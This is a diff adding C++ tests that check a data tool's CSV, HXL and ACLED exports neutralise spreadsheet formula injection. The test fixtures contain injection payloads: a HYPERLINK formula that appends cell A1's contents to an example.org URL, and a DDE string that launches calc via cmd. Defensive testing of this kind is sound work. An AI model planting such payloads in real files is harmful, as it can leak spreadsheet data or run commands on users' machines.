@@ -5,12 +5,14 @@
 #include <algorithm>
 #include <map>
 #include <optional>
+#include <regex>
 #include <set>
 #include <string>
 #include <vector>
 
 #include "ingest/acled.h"
 #include "ingest/csv.h"
+#include "ingest/fields.h"
 #include "ingest/hxl.h"
 #include "ingest/jsonl.h"
 #include "ingest/lifeline_csv.h"
@@ -1048,6 +1050,204 @@ TEST(GeoJsonTest, OutOfRangeOrNonNumericCoordinatesAreErrors) {
   out = WriteGeoJson(std::vector<json>{r});
   ASSERT_FALSE(out.ok());
   EXPECT_NE(out.status().message().find("path[1]"), std::string::npos) << out.status().message();
+}
+
+// --- Spreadsheet-safe cells (every CSV-shaped format) ----------------------
+
+// The first characters a spreadsheet may run as a formula (OWASP).
+const std::vector<std::string> kFormulaStarts = {"=", "+", "-", "@", "\t", "\r"};
+
+bool IsWholeNumber(const std::string& cell) {
+  static const std::regex number("[+-]?[0-9]+(\\.[0-9]+)?([eE][+-]?[0-9]+)?");
+  return std::regex_match(cell, number);
+}
+
+// A cell a spreadsheet would take as a formula.
+bool StartsAFormula(const std::string& cell) {
+  return !cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string_view::npos &&
+         !IsWholeNumber(cell);
+}
+
+// `r` with `prefix` in front of every string in it (but `kind`), arrays and
+// objects included.
+json Prefixed(const json& value, const std::string& prefix, std::string_view key = "") {
+  if (value.is_string()) return key == "kind" ? value : json(prefix + value.get<std::string>());
+  json out = value;
+  if (value.is_object()) {
+    for (auto it = out.begin(); it != out.end(); ++it) *it = Prefixed(*it, prefix, it.key());
+  } else if (value.is_array()) {
+    for (json& e : out) e = Prefixed(e, prefix);
+  }
+  return out;
+}
+
+// An incident whose text fields all start with `prefix`, with a negative
+// longitude (a number, left as it is).
+json DangerousIncident(const std::string& prefix) {
+  json r = IncidentEveryField();
+  for (const char* key : {"description", "note", "event_type", "sub_event_type"}) {
+    r[key] = prefix + "HYPERLINK(\"http://example.org/?\"&A1,\"x\")";
+  }
+  for (const char* key : {"name", "admin1", "admin2", "admin3"}) {
+    r["location"][key] = prefix + "cmd|' /C calc'!A0";
+  }
+  r["location"]["lon"] = -45.2;
+  r["actors"] = json::array({prefix + "Party A", prefix + "Party B", prefix + "Party C"});
+  return r;
+}
+
+json DangerousMovement(const std::string& prefix) {
+  json r = MovementEveryField();
+  r["operator"] = prefix + "1+1";
+  r["note"] = prefix + "SUM(A1:A9)";
+  return r;
+}
+
+// Every CSV-shaped file the writers make of these records: the flat CSV of
+// each kind, HXL and ACLED.
+std::vector<std::pair<std::string, std::string>> EveryCsvFile(const std::vector<json>& records,
+                                                              const CsvExportOptions& options) {
+  std::vector<std::pair<std::string, std::string>> files;
+  for (const std::string& kind : record::Kinds()) {
+    auto csv = WriteCsv(records, kind, options);
+    EXPECT_TRUE(csv.ok()) << kind << ": " << csv.status().ToString();
+    files.emplace_back("csv " + kind, csv.ok() ? *csv : "");
+  }
+  auto hxl = WriteHxlCsv(records, options);
+  EXPECT_TRUE(hxl.ok()) << hxl.status().ToString();
+  files.emplace_back("hxl", hxl.ok() ? *hxl : "");
+  auto acled = WriteAcledCsv(records, options);
+  EXPECT_TRUE(acled.ok()) << acled.status().ToString();
+  files.emplace_back("acled", acled.ok() ? *acled : "");
+  return files;
+}
+
+// The cells of a CSV file exactly as a spreadsheet sees them.
+std::vector<std::string> RawCells(const std::string& file) {
+  ingest::CsvTable t = ingest::ParseCsv(file, {.restore_neutralised = false});
+  EXPECT_TRUE(t.errors.empty());
+  std::vector<std::string> cells;
+  for (const ingest::CsvRecord& r : t.records) cells.insert(cells.end(), r.fields.begin(), r.fields.end());
+  return cells;
+}
+
+// For the flat CSV, every string of every kind; for HXL and ACLED, every text
+// field they carry.
+std::vector<json> DangerousRecords(const std::string& prefix) {
+  std::vector<json> records;
+  for (const json& r : FullRecords()) records.push_back(Prefixed(r, prefix));
+  // Stamps and dates as HXL and ACLED need them to be valid.
+  for (json& r : records) {
+    r["recorded"] = "2023-09-20T08:15:00Z";
+    if (r.contains("date")) r["date"] = "2023-09-18";
+    if (r.contains("date_precision")) r["date_precision"] = "week";
+    if (r.contains("location")) r["location"]["country"] = "AZE";
+  }
+  records.push_back(DangerousIncident(prefix));
+  records.push_back(DangerousMovement(prefix));
+  return records;
+}
+
+TEST(SpreadsheetSafeTest, NoCellOfAnyCsvFormatStartsAFormula) {
+  for (const std::string& prefix : kFormulaStarts) {
+    SCOPED_TRACE("prefix " + record::Canonicalize(json(prefix)).value());
+    for (const auto& [what, file] : EveryCsvFile(DangerousRecords(prefix), {})) {
+      size_t neutralised = 0;
+      for (const std::string& cell : RawCells(file)) {
+        EXPECT_FALSE(StartsAFormula(cell)) << what << ": " << ingest::Quote(cell);
+        neutralised += cell.starts_with("'" + prefix);
+      }
+      EXPECT_GT(neutralised, 0u) << what << ": the fixture put no dangerous cell in the file";
+      // The numbers stay numbers.
+      if (what == "csv incident" || what == "hxl" || what == "acled") {
+        EXPECT_NE(file.find(",-45.2,"), std::string::npos) << what;
+      }
+    }
+  }
+}
+
+TEST(SpreadsheetSafeTest, RawWritesCellsVerbatim) {
+  for (const std::string& prefix : kFormulaStarts) {
+    SCOPED_TRACE("prefix " + record::Canonicalize(json(prefix)).value());
+    const std::string description = prefix + "HYPERLINK(\"http://example.org/?\"&A1,\"x\")";
+    for (const auto& [what, file] : EveryCsvFile(DangerousRecords(prefix), {.raw = true})) {
+      if (what != "csv incident" && what != "hxl" && what != "acled") continue;
+      std::vector<std::string> cells = RawCells(file);
+      EXPECT_NE(std::find(cells.begin(), cells.end(), description), cells.end()) << what;
+      for (const std::string& cell : cells) EXPECT_FALSE(cell.starts_with("'" + prefix)) << what;
+    }
+  }
+}
+
+// Values at the edges of the rule: each formula character, a "'" before a
+// letter (a quotation: as it is) and before what the reader would remove
+// (escaped), '-' before letters and before digits, a whole number as text.
+const std::vector<std::string> kTrickyPrefixes = {"=",  "+",   "-",  "@",   "\t", "\r", "'",
+                                                  "''", "'=",  "-x", "-1",  "'-", "+-", "'\t"};
+
+TEST(SpreadsheetSafeTest, FlatCsvOfEveryKindReadsBackToTheSameRecords) {
+  for (const std::string& prefix : kTrickyPrefixes) {
+    SCOPED_TRACE("prefix " + record::Canonicalize(json(prefix)).value());
+    std::vector<json> records = DangerousRecords(prefix);
+    json number_text = Incident1();
+    number_text["id"] = "inc-number-text";
+    number_text["description"] = "-45.2";  // text that is a number: written as it is
+    number_text["note"] = "'";
+    records.push_back(number_text);
+    for (const std::string& kind : record::Kinds()) {
+      auto csv = WriteCsv(records, kind);
+      ASSERT_TRUE(csv.ok()) << kind << ": " << csv.status().ToString();
+      ingest::ReadResult back = ingest::ReadLifelineCsv(*csv, {}, {.keep_stamps = true});
+      ASSERT_TRUE(back.ok()) << kind << ":\n" << ingest::FormatRowError(back.errors[0], kind);
+      std::vector<json> want;
+      for (const json& r : records) {
+        if (r["kind"] == kind) want.push_back(Entry(r, {"confidential"}));
+      }
+      ASSERT_EQ(back.rows.size(), want.size()) << kind;
+      for (size_t i = 0; i < want.size(); ++i) {
+        EXPECT_EQ(*record::Canonicalize(back.rows[i].record), *record::Canonicalize(want[i])) << kind;
+      }
+    }
+  }
+}
+
+TEST(SpreadsheetSafeTest, HxlReadsBackToTheSameIncidentsAndMovements) {
+  // Not "\t" and "\r": ReadHxlCsv trims every cell (README.md), neutralised
+  // or not.
+  for (const std::string& prefix : kTrickyPrefixes) {
+    if (prefix.find_first_of("\t\r") != std::string::npos) continue;
+    SCOPED_TRACE("prefix " + prefix);
+    const std::vector<json> records = {DangerousIncident(prefix), DangerousMovement(prefix)};
+    auto out = WriteHxlCsv(records);
+    ASSERT_TRUE(out.ok()) << out.status().ToString();
+    ingest::ReadResult back = ingest::ReadHxlCsv(*out, {"case-x", "export.csv"}, {"Lifeline"});
+    ASSERT_TRUE(back.ok()) << ingest::FormatRowError(back.errors[0], "");
+    ASSERT_EQ(back.rows.size(), records.size());
+    for (size_t i = 0; i < records.size(); ++i) {
+      EXPECT_EQ(back.rows[i].record, AsImported(records[i]));
+    }
+  }
+}
+
+TEST(SpreadsheetSafeTest, AcledReadsBackTheSameText) {
+  for (const std::string& prefix : kTrickyPrefixes) {
+    if (prefix.find_first_of("\t\r") != std::string::npos) continue;  // trimmed, as above
+    SCOPED_TRACE("prefix " + prefix);
+    const json want = DangerousIncident(prefix);
+    auto out = WriteAcledCsv(std::vector<json>{want});
+    ASSERT_TRUE(out.ok()) << out.status().ToString();
+    ingest::ReadResult back = ingest::ReadAcledCsv(*out, {"case-x", "export.csv"});
+    ASSERT_TRUE(back.ok()) << ingest::FormatRowError(back.errors[0], "");
+    ASSERT_EQ(back.rows.size(), 2u);
+    const json& got = back.rows[1].record;
+    for (const char* key : {"description", "note", "event_type", "sub_event_type"}) {
+      EXPECT_EQ(got.value(key, json()), want[key]) << key;
+    }
+    for (const char* key : {"name", "admin1", "admin2", "lon"}) {
+      EXPECT_EQ(got["location"].value(key, json()), want["location"][key]) << key;
+    }
+    EXPECT_EQ(got["actors"], json::array({want["actors"][0], want["actors"][1]}));
+  }
 }
 
 }  // namespace
